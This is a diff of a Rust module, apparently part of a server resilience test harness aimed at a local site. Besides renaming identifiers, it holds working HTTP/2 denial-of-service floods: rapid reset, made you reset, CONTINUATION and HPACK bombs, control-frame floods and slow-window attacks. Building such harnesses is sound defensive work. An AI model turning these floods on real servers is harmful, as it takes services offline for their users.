@@ -5,7 +5,7 @@ use std::time::Duration;
 
 use tokio::time::{sleep, timeout};
 
-use crate::attack::{Attack, Listener, Pace, Running, Session};
+use crate::attack::{Attack, AttackConnection, AttackFuture, Listener, Pace};
 use crate::site::{SMALL, big_page};
 use support::h2::{
     ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
@@ -13,154 +13,162 @@ use support::h2::{
 };
 
 const PRIORITY: u8 = 2;
-const LARGEST_WINDOW: u32 = 0x7fff_ffff;
+const MAX_WINDOW: u32 = 0x7fff_ffff;
 const HEADER_TABLE_SIZE: u16 = 1;
 const INITIAL_WINDOW_SIZE: u16 = 4;
-/// What servers take without having said otherwise.
-const LARGEST_FRAME: usize = 16 * 1024;
-/// Frames that are sent at once.
-const BATCH: u64 = 200;
+/// The default of `SETTINGS_MAX_FRAME_SIZE`.
+const MAX_FRAME_BYTES: usize = 16 * 1024;
+/// The number of frames in one write.
+const FRAMES_PER_BATCH: u64 = 200;
 
-const fn free(name: &'static str, title: &'static str, connections: usize, run: fn(Session) -> Running) -> Attack {
-    Attack { name, title, on: Listener::Http2, connections, pace: Pace::Free, narrow: false, run }
+const fn unlimited(
+    name: &'static str,
+    title: &'static str,
+    connections: usize,
+    run: fn(AttackConnection) -> AttackFuture,
+) -> Attack {
+    Attack { name, title, listener: Listener::Http2, connections, pace: Pace::Unlimited, has_small_buffer: false, run }
 }
 
 pub(crate) const ATTACKS: &[Attack] = &[
-    free("h2-rapid-reset", "rapid reset (CVE-2023-44487)", 8, |s| Box::pin(rapid_reset(s))),
-    free("h2-made-you-reset", "made you reset (CVE-2025-8671)", 8, |s| Box::pin(made_you_reset(s))),
-    free("h2-continuation", "CONTINUATION without end (CVE-2024-27316)", 8, |s| Box::pin(continuation(s))),
-    free("h2-hpack-bomb", "HPACK: 16 KB that say 32 MB", 8, |s| Box::pin(hpack_bomb(s))),
-    free("h2-hpack-churn", "HPACK: tables that change all the time", 8, |s| Box::pin(hpack_churn(s))),
-    free("h2-settings", "SETTINGS", 8, |s| Box::pin(control(s, settings_frame))),
-    free("h2-ping", "PING", 8, |s| Box::pin(control(s, |_| frame(PING, 0, 0, &[7; 8])))),
-    free("h2-priority", "PRIORITY", 8, |s| Box::pin(control(s, priority_frame))),
-    free("h2-goaway", "GOAWAY", 8, |s| Box::pin(control(s, |_| frame(GOAWAY, 0, 0, &[0; 8])))),
-    free("h2-window-updates", "WINDOW_UPDATE", 8, |s| Box::pin(control(s, window_frame))),
-    free("h2-empty-data", "empty DATA", 8, |s| Box::pin(empty_data(s))),
-    free("h2-empty-headers", "empty HEADERS and CONTINUATION", 8, |s| Box::pin(empty_headers(s))),
-    free("h2-pages", "large pages, `bytes=0-0`, 100 streams, one connection", 1, |s| Box::pin(requests(s, "GET"))),
-    free("h2-heads", "HEADs, 100 streams, one connection", 1, |s| Box::pin(requests(s, "HEAD"))),
-    free("h2-closed-windows", "identity pages, closed windows, 100 streams each", 100, |s| Box::pin(closed_windows(s))),
-    free("h2-window-drip", "windows that open by one byte, 100 streams each", 50, |s| Box::pin(window_drip(s))),
+    unlimited("h2-rapid-reset", "rapid reset (CVE-2023-44487)", 8, |s| Box::pin(rapid_reset(s))),
+    unlimited("h2-made-you-reset", "made you reset (CVE-2025-8671)", 8, |s| Box::pin(made_you_reset(s))),
+    unlimited("h2-continuation", "CONTINUATION without end (CVE-2024-27316)", 8, |s| Box::pin(continuation(s))),
+    unlimited("h2-hpack-bomb", "HPACK: 16 KB that say 32 MB", 8, |s| Box::pin(hpack_bomb(s))),
+    unlimited("h2-hpack-churn", "HPACK: tables that change all the time", 8, |s| Box::pin(hpack_churn(s))),
+    unlimited("h2-settings", "SETTINGS", 8, |s| Box::pin(send_control_frames(s, settings_frame))),
+    unlimited("h2-ping", "PING", 8, |s| Box::pin(send_control_frames(s, |_| frame(PING, 0, 0, &[7; 8])))),
+    unlimited("h2-priority", "PRIORITY", 8, |s| Box::pin(send_control_frames(s, priority_frame))),
+    unlimited("h2-goaway", "GOAWAY", 8, |s| Box::pin(send_control_frames(s, |_| frame(GOAWAY, 0, 0, &[0; 8])))),
+    unlimited("h2-window-updates", "WINDOW_UPDATE", 8, |s| Box::pin(send_control_frames(s, window_frame))),
+    unlimited("h2-empty-data", "empty DATA", 8, |s| Box::pin(empty_data(s))),
+    unlimited("h2-empty-headers", "empty HEADERS and CONTINUATION", 8, |s| Box::pin(empty_headers(s))),
+    unlimited("h2-pages", "large pages, `bytes=0-0`, 100 streams, one connection", 1, |s| Box::pin(requests(s, "GET"))),
+    unlimited("h2-heads", "HEADs, 100 streams, one connection", 1, |s| Box::pin(requests(s, "HEAD"))),
+    unlimited("h2-closed-windows", "identity pages, closed windows, 100 streams each", 100, |s| {
+        Box::pin(closed_windows(s))
+    }),
+    unlimited("h2-window-drip", "windows that open by one byte, 100 streams each", 50, |s| Box::pin(window_drip(s))),
 ];
 
-/// Payload of SETTINGS.
+/// The payload of a SETTINGS frame.
 fn settings(values: &[(u16, u32)]) -> Vec<u8> {
     values.iter().flat_map(|(name, value)| [&name.to_be_bytes()[..], &value.to_be_bytes()[..]].concat()).collect()
 }
 
-/// The connection preface, with this window for each stream and the largest for the connection.
-async fn begin(session: &mut Session, window: u32) -> io::Result<()> {
+/// Sends the connection preface, with this initial window for streams and the maximum window for the connection.
+async fn send_preface(connection: &mut AttackConnection, window: u32) -> io::Result<()> {
     let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     bytes.extend(frame(SETTINGS, 0, 0, &settings(&[(INITIAL_WINDOW_SIZE, window), (HEADER_TABLE_SIZE, 4096)])));
     bytes.extend(frame(SETTINGS, ACK, 0, &[]));
-    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &(LARGEST_WINDOW - 65_535).to_be_bytes()));
-    session.send(&bytes).await
+    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &(MAX_WINDOW - 65_535).to_be_bytes()));
+    connection.send(&bytes).await
 }
 
-fn head(method: &str, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
+fn request_block(method: &str, path: &str, extra_fields: &[(&str, &str)]) -> Vec<u8> {
     let fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")];
-    block(&[&fields[..], more].concat())
+    block(&[&fields[..], extra_fields].concat())
 }
 
-/// Streams of a client, from 1.
-fn stream(n: u64) -> u32 {
-    (n as u32 * 2 + 1) & LARGEST_WINDOW
+/// The id of the client's stream number `n`, from 1.
+fn stream_id(n: u64) -> u32 {
+    (n as u32 * 2 + 1) & MAX_WINDOW
 }
 
-/// Sends batches of what `make` puts into the buffer for each number from 0.
-async fn batches(session: Session, mut make: impl FnMut(u64, &mut Vec<u8>)) -> io::Result<()> {
+/// Sends batches of what `fill` puts into the buffer for each number from 0.
+async fn send_batches(connection: AttackConnection, mut fill: impl FnMut(u64, &mut Vec<u8>)) -> io::Result<()> {
     let mut n = 0;
-    session
+    connection
         .flood(|buffer| {
-            for _ in 0..BATCH {
-                make(n, buffer);
+            for _ in 0..FRAMES_PER_BATCH {
+                fill(n, buffer);
                 n += 1;
             }
-            BATCH
+            FRAMES_PER_BATCH
         })
         .await
 }
 
-async fn rapid_reset(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    let head = head("GET", SMALL, &[]);
-    batches(session, |n, buffer| {
-        buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head));
-        buffer.extend(frame(RST_STREAM, 0, stream(n), &8u32.to_be_bytes()));
+async fn rapid_reset(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    let head = request_block("GET", SMALL, &[]);
+    send_batches(connection, |n, buffer| {
+        buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &head));
+        buffer.extend(frame(RST_STREAM, 0, stream_id(n), &8u32.to_be_bytes()));
     })
     .await
 }
 
-/// Each request is followed by a frame for which the server has to reset the stream itself.
-async fn made_you_reset(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    let head = head("GET", &big_page(0), &[]);
-    batches(session, |n, buffer| {
-        let stream = stream(n);
+/// Each request is followed by an invalid frame, so that the server has to reset the stream.
+async fn made_you_reset(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    let head = request_block("GET", &big_page(0), &[]);
+    send_batches(connection, |n, buffer| {
+        let stream = stream_id(n);
         buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
         buffer.extend(match n % 3 {
             0 => frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
-            1 => frame(WINDOW_UPDATE, 0, stream, &LARGEST_WINDOW.to_be_bytes()),
+            1 => frame(WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes()),
             _ => frame(DATA, END_STREAM, stream, b"x"),
         });
     })
     .await
 }
 
-async fn continuation(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    session.send(&frame(HEADERS, END_STREAM, 1, &head("GET", SMALL, &[]))).await?;
+async fn continuation(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    connection.send(&frame(HEADERS, END_STREAM, 1, &request_block("GET", SMALL, &[]))).await?;
     let fields = block(&vec![("x-field", "0123456789012345678901234567890123456789"); 330]);
-    let more = frame(CONTINUATION, 0, 1, &fields[..fields.len().min(LARGEST_FRAME)]);
-    session
+    let continuation_frame = frame(CONTINUATION, 0, 1, &fields[..fields.len().min(MAX_FRAME_BYTES)]);
+    connection
         .flood(|buffer| {
-            buffer.extend_from_slice(&more);
+            buffer.extend_from_slice(&continuation_frame);
             1
         })
         .await
 }
 
-/// A literal field that enters the dynamic table.
-fn indexed(name: &str, value: &str) -> Vec<u8> {
+/// A literal field with incremental indexing: it is added to the dynamic table.
+fn field_with_indexing(name: &str, value: &str) -> Vec<u8> {
     let mut bytes = block(&[(name, value)]);
     bytes[0] = 0x40;
     bytes
 }
 
 /// The newest entry of the dynamic table.
-const NEWEST: u8 = 0x80 | 62;
+const NEWEST_DYNAMIC_ENTRY: u8 = 0x80 | 62;
 
-async fn hpack_bomb(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    let request = head("GET", SMALL, &[]);
-    let first = [&request[..], &indexed("x-bomb", &"b".repeat(3900))].concat();
-    session.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)).await?;
-    let bomb = [&request[..], &vec![NEWEST; LARGEST_FRAME - request.len()]].concat();
+async fn hpack_bomb(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    let request = request_block("GET", SMALL, &[]);
+    let first = [&request[..], &field_with_indexing("x-bomb", &"b".repeat(3900))].concat();
+    connection.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)).await?;
+    let bomb = [&request[..], &vec![NEWEST_DYNAMIC_ENTRY; MAX_FRAME_BYTES - request.len()]].concat();
     let mut n = 0;
-    session
+    connection
         .flood(|buffer| {
             n += 1;
-            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &bomb));
+            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &bomb));
             1
         })
         .await
 }
 
-async fn hpack_churn(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    // The table is emptied, then as large as before.
-    let resized = [0x20, 0x3f, 0xe1, 0x1f];
-    let request = head("HEAD", SMALL, &[]);
+async fn hpack_churn(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    // Two size updates: the dynamic table is emptied, then gets its former size.
+    let table_size_updates = [0x20, 0x3f, 0xe1, 0x1f];
+    let request = request_block("HEAD", SMALL, &[]);
     let mut n = 0;
-    session
+    connection
         .flood(|buffer| {
             n += 1;
-            let mut fields = [&resized[..], &request].concat();
+            let mut fields = [&table_size_updates[..], &request].concat();
             for field in 0..40 {
-                fields.extend(indexed(&format!("x-{n}-{field}"), "0123456789012345678901234567890123456789"));
+                fields
+                    .extend(field_with_indexing(&format!("x-{n}-{field}"), "0123456789012345678901234567890123456789"));
             }
-            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &fields));
+            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &fields));
             1
         })
         .await
@@ -171,110 +179,110 @@ fn settings_frame(n: u64) -> Vec<u8> {
 }
 
 fn priority_frame(n: u64) -> Vec<u8> {
-    frame(PRIORITY, 0, stream(n % 1_000_000), &[&stream((n + 7) % 1000).to_be_bytes()[..], &[n as u8]].concat())
+    frame(PRIORITY, 0, stream_id(n % 1_000_000), &[&stream_id((n + 7) % 1000).to_be_bytes()[..], &[n as u8]].concat())
 }
 
 fn window_frame(_: u64) -> Vec<u8> {
     frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())
 }
 
-/// Frames that ask for nothing.
-async fn control(mut session: Session, make: fn(u64) -> Vec<u8>) -> io::Result<()> {
-    // The connection's window has to have room for what is added.
-    session.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
-    session.send(&frame(SETTINGS, 0, 0, &[])).await?;
-    batches(session, |n, buffer| buffer.extend(make(n))).await
+/// Sends control frames without requests.
+async fn send_control_frames(mut connection: AttackConnection, fill: fn(u64) -> Vec<u8>) -> io::Result<()> {
+    // The connection's window must stay below its maximum while it is increased.
+    connection.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
+    connection.send(&frame(SETTINGS, 0, 0, &[])).await?;
+    send_batches(connection, |n, buffer| buffer.extend(fill(n))).await
 }
 
-async fn empty_data(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    session.send(&frame(HEADERS, END_HEADERS, 1, &head("POST", "/", &[]))).await?;
-    batches(session, |_, buffer| buffer.extend(frame(DATA, 0, 1, &[]))).await
+async fn empty_data(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    connection.send(&frame(HEADERS, END_HEADERS, 1, &request_block("POST", "/", &[]))).await?;
+    send_batches(connection, |_, buffer| buffer.extend(frame(DATA, 0, 1, &[]))).await
 }
 
-async fn empty_headers(mut session: Session) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    session.send(&frame(HEADERS, 0, 1, &[])).await?;
-    batches(session, |_, buffer| buffer.extend(frame(CONTINUATION, 0, 1, &[]))).await
+async fn empty_headers(mut connection: AttackConnection) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    connection.send(&frame(HEADERS, 0, 1, &[])).await?;
+    send_batches(connection, |_, buffer| buffer.extend(frame(CONTINUATION, 0, 1, &[]))).await
 }
 
-/// Streams that a connection has open at once.
-const STREAMS: u64 = 100;
+/// The number of concurrent streams of a connection.
+const STREAMS_PER_CONNECTION: u64 = 100;
 
-/// Asks again as soon as an answer has ended, with 100 requests under way.
-async fn requests(mut session: Session, method: &'static str) -> io::Result<()> {
-    begin(&mut session, LARGEST_WINDOW).await?;
-    let (mut n, mut due, mut frames) = (0, STREAMS, Frames::default());
+/// Keeps 100 requests in progress: each response that ends is replaced by a new request.
+async fn requests(mut connection: AttackConnection, method: &'static str) -> io::Result<()> {
+    send_preface(&mut connection, MAX_WINDOW).await?;
+    let (mut n, mut free_streams, mut frames) = (0, STREAMS_PER_CONNECTION, Frames::default());
     loop {
         let mut bytes = Vec::new();
-        for _ in 0..due {
+        for _ in 0..free_streams {
             let path = if method == "HEAD" { SMALL.to_owned() } else { big_page(n as usize) };
             let range = [("range", "bytes=0-0")];
-            let more: &[(&str, &str)] = if method == "HEAD" { &[] } else { &range };
-            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head(method, &path, more)));
+            let fields: &[(&str, &str)] = if method == "HEAD" { &[] } else { &range };
+            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &request_block(method, &path, fields)));
             n += 1;
         }
-        session.shared.units(due).await;
-        session.send(&bytes).await?;
-        due = 0;
-        while due == 0 {
-            due = frames.ended(&session.receive(64 * 1024).await?);
+        connection.shared.start_units(free_streams).await;
+        connection.send(&bytes).await?;
+        free_streams = 0;
+        while free_streams == 0 {
+            free_streams = frames.count_ended_streams(&connection.receive(64 * 1024).await?);
         }
     }
 }
 
-/// Frames that come in pieces.
+/// A parser for frames that arrive in pieces.
 #[derive(Debug, Default)]
 struct Frames {
-    ahead: Vec<u8>,
+    buffer: Vec<u8>,
 }
 
 impl Frames {
-    /// How many streams have ended in what came.
-    fn ended(&mut self, bytes: &[u8]) -> u64 {
-        self.ahead.extend_from_slice(bytes);
-        let (mut at, mut ended) = (0, 0);
-        while let Some(head) = self.ahead.get(at..at + 9) {
+    /// The number of streams that end in these bytes.
+    fn count_ended_streams(&mut self, bytes: &[u8]) -> u64 {
+        self.buffer.extend_from_slice(bytes);
+        let (mut offset, mut ended_streams) = (0, 0);
+        while let Some(head) = self.buffer.get(offset..offset + 9) {
             let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
-            if self.ahead.len() < at + 9 + length {
+            if self.buffer.len() < offset + 9 + length {
                 break;
             }
             let (kind, flags) = (head[3], head[4]);
             let is_end = flags & END_STREAM != 0 && (kind == DATA || kind == HEADERS);
-            ended += u64::from(is_end || kind == RST_STREAM);
-            at += 9 + length;
+            ended_streams += u64::from(is_end || kind == RST_STREAM);
+            offset += 9 + length;
         }
-        self.ahead.drain(..at);
-        ended
+        self.buffer.drain(..offset);
+        ended_streams
     }
 }
 
-/// 100 requests for large pages, none of which may be sent.
-async fn ask_for_pages(session: &mut Session) -> io::Result<()> {
-    begin(session, 0).await?;
-    let from = session.number as u64 * STREAMS;
-    for n in 0..STREAMS {
-        let head = head("GET", &big_page((from + n) as usize), &[]);
-        session.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head)).await?;
+/// Sends 100 requests for large pages, with stream windows of 0, so that the server may send no body.
+async fn request_pages(connection: &mut AttackConnection) -> io::Result<()> {
+    send_preface(connection, 0).await?;
+    let from = connection.number as u64 * STREAMS_PER_CONNECTION;
+    for n in 0..STREAMS_PER_CONNECTION {
+        let head = request_block("GET", &big_page((from + n) as usize), &[]);
+        connection.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream_id(n), &head)).await?;
     }
     Ok(())
 }
 
-async fn closed_windows(mut session: Session) -> io::Result<()> {
-    ask_for_pages(&mut session).await?;
-    session.drain().await
+async fn closed_windows(mut connection: AttackConnection) -> io::Result<()> {
+    request_pages(&mut connection).await?;
+    connection.drain().await
 }
 
-async fn window_drip(mut session: Session) -> io::Result<()> {
-    ask_for_pages(&mut session).await?;
+async fn window_drip(mut connection: AttackConnection) -> io::Result<()> {
+    request_pages(&mut connection).await?;
     let mut updates = Vec::new();
-    for n in 0..STREAMS {
-        updates.extend(frame(WINDOW_UPDATE, 0, stream(n), &1u32.to_be_bytes()));
+    for n in 0..STREAMS_PER_CONNECTION {
+        updates.extend(frame(WINDOW_UPDATE, 0, stream_id(n), &1u32.to_be_bytes()));
     }
     loop {
-        session.send(&updates).await?;
-        // What came is read, so that the server can send.
-        while let Ok(read) = timeout(Duration::from_millis(1), session.receive(64 * 1024)).await {
+        connection.send(&updates).await?;
+        // Reads the received bytes, so that the server can send more.
+        while let Ok(read) = timeout(Duration::from_millis(1), connection.receive(64 * 1024)).await {
             read?;
         }
         sleep(Duration::from_millis(50)).await;
